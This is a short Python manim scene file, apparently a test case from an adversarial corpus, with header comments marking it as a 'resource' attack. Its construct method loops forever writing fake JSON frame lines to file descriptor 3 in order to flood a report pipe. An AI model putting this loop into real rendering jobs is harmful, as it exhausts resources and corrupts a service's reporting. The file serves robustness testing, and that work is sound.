# ATTACK: resource
# SUCCESS: the report pipe is flooded with lines for as long as it goes
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os
        line = b'{"frames": 1}\n' * 4000
        while True: os.write(3, line)
        self.add(Dot()); self.wait(0.1)
